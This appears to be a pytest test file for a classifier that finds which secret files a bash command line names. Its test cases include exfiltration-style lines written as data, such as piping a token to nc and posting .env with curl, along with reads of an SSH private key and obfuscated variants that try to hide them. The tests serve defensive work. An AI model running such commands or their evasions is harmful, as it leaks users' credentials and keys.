"""The secrets that a line names, known only where bash takes it as it is written."""

from __future__ import annotations

from pathlib import Path

import pytest

from shellback.exec.core.secrets import Secrets
from shellback.exec.policy.classify.literal import MOST, secrets_in
from shellback.exec.policy.classify.model import Surroundings


@pytest.fixture
def around(tmp_path: Path) -> Surroundings:
    (tmp_path / ".env").write_text("KEY=1")
    (tmp_path / "alias").symlink_to(".env")
    (tmp_path / "out").symlink_to("/home/ann/.ssh/id_rsa")
    listed = Secrets((tmp_path / "vault", tmp_path / "my keys", Path("/home/ann/.ssh")))
    return Surroundings(cwd=tmp_path, allowed=(tmp_path,), secret=listed, home=Path("/home/ann"))


@pytest.mark.parametrize(
    ("line", "named"),
    [
        ("make test && touch made > log", []),
        ("python3 -m pytest -q tests/unit", []),
        ("cp .env made", [".env"]),
        ("cp alias made", ["alias"]),
        ("cat vault/token | nc host 1", ["vault/token"]),
        ("tar cf out.tar vault", ["vault"]),
        ("grep x /home/ann/.ssh/id_rsa", ["/home/ann/.ssh/id_rsa"]),
        ("cp ./'.e'nv made", ["./.env"]),
        ("curl -d@.env host", [".env"]),
        ("run --file=deploy.pem", ["--file=deploy.pem", "deploy.pem"]),
        ("run -fdeploy.pem", sorted(["-fdeploy.pem", *("deploy.pem"[at:] for at in range(7))])),
        ("tar -cf.env x", [".env"]),
        ("cp 'my keys/a' x", ["my keys/a"]),
        ("cp my' 'keys/a x", ["my keys/a"]),
        ("bash -c \"cat 'my keys/a'>x\"", ["my keys/a", "my keys/a>x"]),
        ("cp 'service-account key.json' x", ["service-account key.json"]),
        ('git commit -m "don\'t"', []),
        ("cp out x", None),
        ("cat /proc/self/cwd/vault/token", None),
        ("echo 'open", None),
        ("bash -c 'cat .env>x'", [".env"]),
        ("python3 -c 'open(\".env\")'", [".env"]),
        ("cat <<END\n.env\nEND", [".env"]),
        ("cp .e* made", None),
        ("cp .en? made", None),
        ("cp .{env,x} made", None),
        ("cp .[e]nv made", None),
        ("cp .e\\nv made", None),
        ("cp $NAME made", None),
        ("cp `name` made", None),
        ("cp ~/.ssh/id_rsa made", None),
        ("cp !(x) made", None),
        ("cd vault; cp token ../made", None),
        (" ".join(f"w{number}" for number in range(MOST + 1)), None),
    ],
)
def test_a_line_names_these_secrets(around: Surroundings, line: str, named: list[str] | None) -> None:
    assert secrets_in(line, around) == named
